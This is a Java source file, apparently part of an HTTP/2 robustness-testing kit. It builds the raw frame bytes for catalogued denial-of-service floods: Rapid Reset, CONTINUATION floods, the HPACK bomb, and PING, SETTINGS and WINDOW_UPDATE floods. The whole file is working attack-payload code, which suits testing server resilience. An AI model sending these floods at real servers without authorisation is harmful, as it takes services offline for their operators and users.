package io.sluice.kit.h2;

import io.sluice.kit.Bytes;
import java.io.ByteArrayOutputStream;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.function.IntFunction;
import java.util.stream.Stream;

/**
 * The bytes of the well-known floods (the ids of the specification in brackets), to be written at once or in pieces to a
 * connection that has begun. Client streams are odd, hence go up by two.
 */
public final class Floods {
    private Floods() {}

    private static byte[] many(int count, IntFunction<byte[]> nth) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            out.writeBytes(nth.apply(i));
        }
        return out.toByteArray();
    }

    private static byte[] repeated(int count, Frame frame) {
        byte[] bytes = frame.bytes();
        return many(count, i -> bytes);
    }

    /** Rapid Reset (H2-01): a request and its cancellation, so many times. */
    public static byte[] rapidReset(int firstStream, int count, Fields head) {
        byte[] block = HpackBlock.literals(head);
        return many(count, i -> {
            int stream = firstStream + 2 * i;
            return Frame.bytes(Frame.headers(stream, block, true), Frame.reset(stream, ErrorCode.CANCEL));
        });
    }

    /** Streams whose requests never end (H2-07). */
    public static byte[] openStreams(int firstStream, int count, Fields head) {
        byte[] block = HpackBlock.literals(head);
        return many(count, i -> Frame.headers(firstStream + 2 * i, block, false).bytes());
    }

    /** Whole requests, one after the other (H2-03, with a window of 0). */
    public static byte[] requests(int firstStream, int count, Fields head) {
        byte[] block = HpackBlock.literals(head);
        return many(count, i -> Frame.headers(firstStream + 2 * i, block, true).bytes());
    }

    /**
     * A head that goes on and on (H2-05), {@code each} bytes at a time; 0 for empty frames. The bytes are the value of a
     * field, so that nothing is wrong with them.
     */
    public static byte[] continuations(int stream, int count, int each, Fields head) {
        byte[] begin = endlessHead(stream, Math.max(1, (long) count * each), head);
        return Bytes.concat(begin, moreContinuations(stream, count, each));
    }

    /** A head whose last field has a value of that length, which is still to come. */
    public static byte[] endlessHead(int stream, long length, Fields head) {
        HpackBlock open = new HpackBlock().raw(HpackBlock.literals(head));
        open.integer(0x00, 4, 0).string("x-endless").integer(0x00, 7, length);
        return Frame.unfinishedHeaders(stream, open.bytes(), true).bytes();
    }

    /** What goes on after {@link #endlessHead}; beyond the field's length the bytes are no HPACK. */
    public static byte[] moreContinuations(int stream, int count, int each) {
        byte[] piece = new byte[each];
        Arrays.fill(piece, (byte) 'a');
        return repeated(count, Frame.continuation(stream, piece, false));
    }

    /** PINGs that want an answer each (H2-08). */
    public static byte[] pings(int count) {
        return repeated(count, Frame.ping(0));
    }

    /** SETTINGS that want an ACK each, with so many entries of a number that nobody knows (H2-08). */
    public static byte[] settings(int count, int entries) {
        int[] pairs = new int[2 * entries];
        for (int i = 0; i < entries; i++) {
            pairs[2 * i] = 0xff00;
        }
        return repeated(count, Frame.settings(pairs));
    }

    /** PRIORITY for streams that nobody has opened (H2-08). */
    public static byte[] priorities(int firstStream, int count) {
        return many(count, i -> Frame.priority(firstStream + 2 * i, 0, 15).bytes());
    }

    /** DATA without data on an open stream (H2-08). */
    public static byte[] emptyData(int stream, int count) {
        return repeated(count, Frame.data(stream, new byte[0], false));
    }

    /** DATA of one byte and 255 of padding (H2-08). */
    public static byte[] paddedData(int stream, int count) {
        return repeated(count, Frame.paddedData(stream, new byte[] {'a'}, 255, false));
    }

    /** WINDOW_UPDATE by 1; stream 0 for the connection (H2-08). */
    public static byte[] windowUpdates(int stream, int count) {
        return repeated(count, Frame.windowUpdate(stream, 1));
    }

    /** Frames of a type that nobody knows, which are ignored but are frames. */
    public static byte[] unknownFrames(int count) {
        return repeated(count, new Frame(0xfa, 0, 0, new byte[0]));
    }

    /** HPACK bomb (H2-06), its fuse: a request that puts {@code a} with this value into the table, as entry 62. */
    public static byte[] bombFuse(int stream, Fields head, String value) {
        byte[] block = new HpackBlock()
                .raw(HpackBlock.literals(head))
                .indexing("a", value)
                .bytes();
        return Frame.headers(stream, block, true).bytes();
    }

    /** HPACK bomb: a request that names entry 62 so many times, a byte each. */
    public static byte[] bomb(int stream, Fields head, int times) {
        byte[] entries = new byte[times];
        Arrays.fill(entries, (byte) 0xbe);
        byte[] block =
                new HpackBlock().raw(HpackBlock.literals(head)).raw(entries).bytes();
        return Frame.headers(stream, block, true).bytes();
    }

    /** A request with so many cookie crumbs (D-09, H2-06). */
    public static Fields crumbs(Fields head, int count, String crumb) {
        List<Field> cookies = Collections.nCopies(count, new Field("cookie", crumb));
        return new Fields(Stream.concat(head.list().stream(), cookies.stream()).toList());
    }

    /** Table size updates, up and down (H2-09), and then a head. */
    public static byte[] tableSizeStorm(int count, Fields head) {
        HpackBlock block = new HpackBlock();
        for (int i = 0; i < count; i++) {
            block.tableSize(i % 2 == 0 ? 0 : HpackDecoder.DEFAULT_TABLE_SIZE);
        }
        return block.raw(HpackBlock.literals(head)).bytes();
    }
}
